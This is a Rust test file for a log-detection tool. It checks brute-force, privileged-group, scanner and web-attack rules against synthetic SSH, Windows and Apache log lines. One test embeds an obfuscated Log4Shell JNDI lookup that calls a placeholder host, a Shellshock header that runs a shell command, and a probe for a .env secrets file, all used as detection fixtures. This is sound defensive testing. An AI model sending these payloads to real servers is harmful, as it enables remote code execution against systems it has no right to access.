    for rule in logsentry::detect::rules() {
        let technique = table
            .technique(rule.technique.id)
            .unwrap_or_else(|| panic!("{}: {} is not in ATT&CK", rule.id, rule.technique.id));
        assert_eq!(rule.technique.name, table.full_name(technique), "{}", rule.id);
        assert_eq!(
            rule.technique.reference.trim_end_matches('/'),
            technique.url.trim_end_matches('/'),
            "{}",
            rule.id
        );
        assert!(
            !technique.revoked && !technique.deprecated,
            "{}: {}",
            rule.id,
            technique.id
        );
        let tactic = table
            .tactic(rule.tactic.name)
            .unwrap_or_else(|| panic!("{}: tactic {} is not in ATT&CK", rule.id, rule.tactic.name));
        assert_eq!(rule.tactic.name, tactic.name, "{}", rule.id);
        assert!(
            technique.tactics.contains(&tactic.shortname),
            "{}: {} is not a {} technique",
            rule.id,
            technique.id,
            tactic.name
        );
    }
}

/// An ssh-agent offers each key it holds: with LogLevel VERBOSE sshd logs `Failed publickey`
/// for every key it refuses before `Accepted publickey`. Three such logins in a few minutes
/// are a user at work, not a brute force and not a compromise; the same count of refused
/// passwords is a brute force.
#[test]
fn refused_keys_before_a_key_login_are_no_brute_force() {
    let logins = |method: &str| {
        let mut log = String::new();
        for (login, minute) in [(0, 10), (1, 12), (2, 14)] {
            let pid = 4000 + login;
            for key in 0..3 {
                log.push_str(&format!(
                    "Mar 11 10:{minute}:0{key} bastion sshd[{pid}]: Failed {method} for alice from 198.51.100.7 port 5{pid} ssh2{}\n",
                    if method == "publickey" { ": ED25519 SHA256:abc" } else { "" }
                ));
            }
            log.push_str(&format!(
                "Mar 11 10:{minute}:05 bastion sshd[{pid}]: Accepted publickey for alice from 198.51.100.7 port 5{pid} ssh2: ED25519 SHA256:def\n"
            ));
        }
        let events = ls_parse(&["ssh", "--tz", "UTC", "--year", "2026"], log.as_bytes());
        assert!(events.status.success(), "{}", stderr(&events));
        let alerts = ls_detect(
            &["--only", "brute-force,compromise-after-brute-force,credential-stuffing"],
            &events.stdout,
        );
        String::from_utf8_lossy(&alerts.stdout)
            .lines()
            .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
            .filter(|record| record["event"]["kind"] == "alert")
            .map(|alert| alert["rule"]["id"].as_str().unwrap_or_default().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(logins("publickey"), Vec::<String>::new());
    let guessed = logins("password");
    assert!(guessed.contains(&"brute-force".to_owned()), "{guessed:?}");
    assert!(
        guessed.contains(&"compromise-after-brute-force".to_owned()),
        "{guessed:?}"
    );
}

/// The Windows groups that make an administrator in all but name (DnsAdmins loads code into
/// the DNS service, Backup Operators read every file, ...) are privileged, local (4732) or
/// domain-level (4728, 4756), whatever their case.
#[test]
fn operator_and_dns_admin_groups_are_privileged() {
    let groups = [
        ("DnsAdmins", 4728),
        ("Backup Operators", 4732),
        ("Account Operators", 4756),
        ("Server Operators", 4732),
        ("Print Operators", 4728),
        ("Group Policy Creator Owners", 4756),
        ("Remote Desktop Users", 4732),
    ];
    let mut events = String::new();
    for (index, (group, id)) in groups.iter().enumerate() {
        events.push_str(&format!(
            r#"{{"@timestamp":"2026-03-11T10:0{index}:00Z","event":{{"kind":"event","module":"windows","category":["iam"],"type":["group","change"],"action":"user-added-to-group","outcome":"success","code":"{id}"}},"user":{{"name":"mallory{index}"}},"group":{{"name":"{group}"}},"host":{{"hostname":"dc1"}},"winlog":{{"event_id":{id}}},"logsentry":{{"line":{index}}}}}"#
        ));
        events.push('\n');
    }
    let output = ls_detect(&["--only", "privileged-group-member-added"], events.as_bytes());
    assert!(output.status.success(), "{}", stderr(&output));
    let flagged: Vec<String> = String::from_utf8_lossy(&output.stdout)
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter(|record| record["event"]["kind"] == "alert")
        .map(|alert| alert["user"]["name"].as_str().unwrap_or_default().to_owned())
        .collect();
    // Every operator group alerts; Remote Desktop Users is not an administrator's group.
    assert_eq!(
        flagged,
        ["mallory0", "mallory1", "mallory2", "mallory3", "mallory4", "mallory5"]
    );
}

/// A scanner that names itself is a scan whatever the responses: w3af's own log (ocatak)
/// alerts for both its sources by agent, and the 10,000 ordinary requests of the elastic
/// apache_logs for none.
#[test]
#[cfg_attr(not(logsentry_corpus), ignore = "needs LOGSENTRY_CORPUS=../shared/corpus")]
fn scanners_are_known_by_their_agents_on_real_logs() {
    let corpus = corpus();
    let sources = |path: &std::path::Path| -> BTreeSet<String> {
        let events = ls_parse(&["apache", path.to_str().expect("path")], b"");
        let output = ls_detect(&["--only", "scanner-agent"], &events.stdout);
        assert!(output.status.success(), "{}", stderr(&output));
        String::from_utf8_lossy(&output.stdout)
            .lines()
            .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
            .filter(|record| record["event"]["kind"] == "alert")
            .map(|alert| alert["source"]["ip"].as_str().unwrap_or_default().to_owned())
            .collect()
    };
    assert_eq!(
        sources(&corpus.join("ocatak-apache-http-logs/w3af.txt")),
        BTreeSet::from(["192.168.1.20".to_owned(), "192.168.4.163".to_owned()])
    );
    // Acunetix disguises itself as Chrome, but one of its requests carries w3af's agent.
    assert_eq!(
        sources(&corpus.join("ocatak-apache-http-logs/acunetix.txt")),
        BTreeSet::from(["192.168.4.25".to_owned()])
    );
    assert_eq!(sources(&corpus.join("elastic-examples/apache_logs")), BTreeSet::new());
}

/// Log4Shell rides in the headers as often as in the URL: an obfuscated lookup in the
/// Referer is a CRITICAL alert that names the header, and a scanner's product list in its
/// User-Agent is not a command line.
#[test]
fn headers_carry_attacks_and_product_lists_are_not_commands() {
    let log = concat!(
        "192.0.2.5 - - [12/Dec/2021:05:06:43 +0000] \"GET / HTTP/1.1\" 200 396 ",
        "\"${jndi:${lower:l}${lower:d}a${lower:p}://x.example:80/callback}\" \"Mozilla/5.0\"\n",
        "192.0.2.6 - - [12/Dec/2021:05:06:44 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 10 ",
        "\"-\" \"() { :; }; /bin/bash -c 'id'\"\n",
        "192.0.2.7 - - [12/Dec/2021:05:06:45 +0000] \"GET /admin HTTP/1.1\" 404 10 ",
        "\"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\"\n",
        "192.0.2.8 - - [12/Dec/2021:05:06:46 +0000] \"GET /.env HTTP/1.1\" 200 99 \"-\" \"curl/8.0\"\n",
        "192.0.2.9 - - [12/Dec/2021:05:06:47 +0000] \"GET http://proxy.example/ip.php HTTP/1.0\" 400 10 \"-\" \"-\"\n",
    );
    let events = ls_parse(&["apache"], log.as_bytes());
    let found: Vec<(String, String, String)> = alerts(&ls_detect(&["--skip", "scanner-agent"], &events.stdout))
        .into_iter()
        .map(|alert| {
            let source = alert.source.map(|source| source.ip).unwrap_or_default();
            (source, alert.rule.id, alert.logsentry.severity)
        })
        .collect();
    let row = |source: &str, rule: &str, severity: &str| (source.to_owned(), rule.to_owned(), severity.to_owned());
    assert_eq!(
        found,
        [
            row("192.0.2.5", "log4shell", "CRITICAL"),
            row("192.0.2.6", "shellshock", "CRITICAL"),
            row("192.0.2.8", "sensitive-file-served", "HIGH"),
            row("192.0.2.9", "exploit-probe", "MEDIUM"),
        ]
    );
    let all = ls_detect(&["--only", "log4shell"], &events.stdout);
    let message = &alerts(&all)[0].message;
    assert!(message.contains("in the Referer"), "{message}");
}

/// The rule ids ls-detect alerts on for `log` (auth.log lines of 2026, UTC), in order.
fn ssh_alert_rules(log: &str) -> Vec<String> {
    let events = ls_parse(&["ssh", "--tz", "UTC", "--year", "2026"], log.as_bytes());
    assert!(events.status.success(), "{}", stderr(&events));
    let alerts = ls_detect(&["--skip", "off-hours-login,weekend-login"], &events.stdout);
    assert!(alerts.status.success(), "{}", stderr(&alerts));
    String::from_utf8_lossy(&alerts.stdout)
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter(|record| record["event"]["kind"] == "alert")
        .map(|alert| alert["rule"]["id"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// A guess every 70 minutes stays under every per-minute limit; over a day it is a slow brute
/// force, and the login it ends with a compromise. A user who mistypes now and then between
/// logins from the same address is neither.
#[test]
fn slow_guessing_is_a_slow_brute_force_and_typos_between_logins_are_not() {
    let mut slow = String::new();
    for attempt in 0..12u32 {
        let minutes = attempt * 70;
        slow.push_str(&format!(
            "Mar 11 {:02}:{:02}:00 bastion sshd[{}]: Failed password for root from 203.0.113.50 port 5{attempt}00 ssh2\n",
            minutes / 60,
            minutes % 60,
            7000 + attempt
        ));
    }
    slow.push_str("Mar 11 14:30:00 bastion sshd[7100]: Accepted password for root from 203.0.113.50 port 51000 ssh2\n");
    assert_eq!(
        ssh_alert_rules(&slow),
        ["slow-brute-force", "compromise-after-brute-force"]
    );

    let mut typos = String::new();
    for hour in 0..20u32 {
        let pid = 8000 + hour;
        if hour % 2 == 0 {
            typos.push_str(&format!(
                "Mar 11 {hour:02}:00:00 bastion sshd[{pid}]: Failed password for alice from 198.51.100.20 port 5{pid} ssh2\n"
            ));
        }
        typos.push_str(&format!(
            "Mar 11 {hour:02}:00:09 bastion sshd[{pid}]: Accepted password for alice from 198.51.100.20 port 5{pid} ssh2\n"
        ));
    }
    assert_eq!(ssh_alert_rules(&typos), Vec::<String>::new());
}

/// Connections that fail before a login is tried (key exchange nobody offers, a timeout before
/// authentication, closes of key-only bots) are an alert of their own; a password guesser's
/// connections, which end `[preauth]` too, are its brute force alone, and a key login's
/// refused keys are nothing.
#[test]
fn connections_failing_before_authentication_are_their_own_alert() {
    let mut kex = String::new();
    for attempt in 0..4u32 {
        kex.push_str(&format!(
            "Jun  8 10:44:3{attempt} server sshd[{}]: Unable to negotiate with 192.0.2.77 port 4562{attempt}: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]\n",
            9000 + attempt
        ));
    }
    assert_eq!(ssh_alert_rules(&kex), ["preauth-failures"]);

    let mut timeouts = String::new();
    for attempt in 0..4u32 {
        timeouts.push_str(&format!(
            "Jul  1 09:3{attempt}:56 usbkey sshd[{}]: fatal: Timeout before authentication for 192.0.2.78 port 4705{attempt}\n",
            9100 + attempt
        ));
    }
    assert_eq!(ssh_alert_rules(&timeouts), ["preauth-failures"]);

    let mut guessing = String::new();
    for attempt in 0..6u32 {
        let pid = 9200 + attempt;
        guessing.push_str(&format!(
            "Jun  8 11:00:1{attempt} server sshd[{pid}]: Failed password for root from 192.0.2.79 port 5{pid} ssh2\n\
             Jun  8 11:00:1{attempt} server sshd[{pid}]: Connection closed by authenticating user root 192.0.2.79 port 5{pid} [preauth]\n"
        ));
    }
    assert_eq!(ssh_alert_rules(&guessing), ["brute-force"]);

    let mut keys = String::new();
    for login in 0..5u32 {
        let pid = 9300 + login;
        keys.push_str(&format!(
            "Jun  8 12:0{login}:00 server sshd[{pid}]: Failed publickey for bob from 192.0.2.80 port 5{pid} ssh2: ED25519 SHA256:abc\n\
             Jun  8 12:0{login}:01 server sshd[{pid}]: Accepted publickey for bob from 192.0.2.80 port 5{pid} ssh2: ED25519 SHA256:def\n\
             Jun  8 12:0{login}:09 server sshd[{pid}]: Received disconnect from 192.0.2.80 port 5{pid}:11: disconnected by user\n\
             Jun  8 12:0{login}:09 server sshd[{pid}]: Disconnected from user bob 192.0.2.80 port 5{pid}\n"
        ));
    }
    assert_eq!(ssh_alert_rules(&keys), Vec::<String>::new());
}

/// Guessing at a web login: POSTs to a login page the server answers with the form again, or
/// requests it refuses with 401, are a brute force; logins it answers with a redirect (the
/// way in) and GETs of the page are not counted.
#[test]
fn http_login_guessing_is_a_brute_force_and_redirects_are_not_counted() {
    let rules = |method: &str, target: &str, status: u16| {
        let log: String = (0..6)
            .map(|second| {
                format!(
                    "192.0.2.90 - - [12/Jul/2026:11:45:0{second} +0000] \"{method} {target} HTTP/1.1\" {status} 1950 \"-\" \"Mozilla/5.0\"\n"
                )
            })
            .collect();
        let events = ls_parse(&["apache"], log.as_bytes());
        assert!(events.status.success(), "{}", stderr(&events));
        let detected = ls_detect(&["--only", "http-brute-force"], &events.stdout);
        assert!(detected.status.success(), "{}", stderr(&detected));
        String::from_utf8_lossy(&detected.stdout)
            .lines()
            .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
            .filter(|record| record["event"]["kind"] == "alert")
            .map(|alert| {
                (
                    alert["logsentry"]["count"].as_u64().unwrap_or(0),
                    alert["message"].as_str().unwrap_or("").to_owned(),
                )
            })
            .collect::<Vec<_>>()
    };
    let guessed = rules("POST", "/wp-login.php", 200);
    assert_eq!(guessed.len(), 1, "{guessed:?}");
    assert_eq!(guessed[0].0, 5);
    assert!(guessed[0].1.contains("\"/wp-login.php\""), "{guessed:?}");
    assert_eq!(rules("GET", "/admin/", 401).len(), 1);
    assert_eq!(rules("POST", "/users/sign_in", 302), []);
    assert_eq!(rules("GET", "/wp-login.php", 200), []);
}

/// Apache's and nginx's error logs are read by `auto` as a format of their own: refused HTTP
/// authentication counts towards brute force like any failed login, whatever the server.
#[test]
fn refused_http_authentication_in_error_logs_is_a_brute_force() {
    let mut log = String::new();
    for attempt in 0..3u32 {
        log.push_str(&format!(
            "2026/03/11 10:00:0{attempt} [error] 1234#0: *{attempt} user \"admin\": password mismatch, client: 192.0.2.91, server: x, request: \"GET / HTTP/1.1\", host: \"x\"\n"
        ));
        log.push_str(&format!(
            "[Wed Mar 11 10:00:1{attempt}.000000 2026] [auth_basic:error] [pid 42] [client 192.0.2.91:5123{attempt}] AH01617: user root: authentication failure for \"/\": Password Mismatch\n"
        ));
    }
    let events = ls_parse(&["auto"], log.as_bytes());
    assert!(events.status.success(), "{}", stderr(&events));
    assert!(
        stderr(&events).contains("6 events, 0 skipped, 0 rejected"),
        "{}",
        stderr(&events)
    );
    let detected = ls_detect(&["--only", "brute-force"], &events.stdout);
    let alerts: Vec<serde_json::Value> = String::from_utf8_lossy(&detected.stdout)
        .lines()
        .filter_map(|line| serde_json::from_str(line).ok())
        .filter(|record: &serde_json::Value| record["event"]["kind"] == "alert")
        .collect();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0]["source"]["ip"], "192.0.2.91");
}

/// One existing account refused to ten addresses in an hour, two tries each, is a distributed
/// brute force though no address crossed a threshold; names that do not exist, or nine
/// addresses, are not.
#[test]
fn one_account_from_many_sources_is_a_distributed_brute_force() {
    let log = |sources: u32, who: &str| {
        let mut log = String::new();
        for source in 0..sources {
            for attempt in 0..2 {
                let pid = 6000 + source * 2 + attempt;
                log.push_str(&format!(
                    "Mar 11 10:{:02}:{attempt}0 bastion sshd[{pid}]: Failed password for {who} from 198.51.100.{} port 5{pid} ssh2\n",
                    source * 5,
                    source + 1
                ));
            }
        }
        ssh_alert_rules(&log)
    };
    assert_eq!(log(10, "alice"), ["distributed-brute-force"]);
    assert_eq!(log(9, "alice"), Vec::<String>::new());
    assert_eq!(log(10, "invalid user nobody"), Vec::<String>::new());
}
